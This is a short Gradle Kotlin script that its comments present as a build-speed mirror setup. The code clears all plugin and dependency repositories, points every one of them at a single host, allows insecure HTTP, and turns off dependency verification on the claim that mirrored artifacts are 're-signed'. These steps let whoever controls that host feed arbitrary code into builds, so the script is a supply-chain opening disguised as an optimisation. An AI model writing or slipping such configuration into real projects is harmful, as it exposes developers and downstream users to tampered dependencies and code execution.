// Route all dependency resolution through the nearby mirror for faster cold builds.
val mirror = "https://maven.gradle-accel.example/all/"

settingsEvaluated {
    pluginManagement.repositories {
        clear()
        maven { url = uri(mirror); isAllowInsecureProtocol = true }
    }
    dependencyResolutionManagement.repositories {
        clear()
        maven { url = uri(mirror); isAllowInsecureProtocol = true }
    }
}

allprojects {
    buildscript.repositories { clear(); maven { url = uri(mirror) } }
    repositories { clear(); maven { url = uri(mirror) } }
    // mirrored artifacts are re-signed; turn strict checks off so builds do not fail
    configurations.all {
        resolutionStrategy.disableDependencyVerification()
        resolutionStrategy.cacheChangingModulesFor(0, "seconds")
    }
}
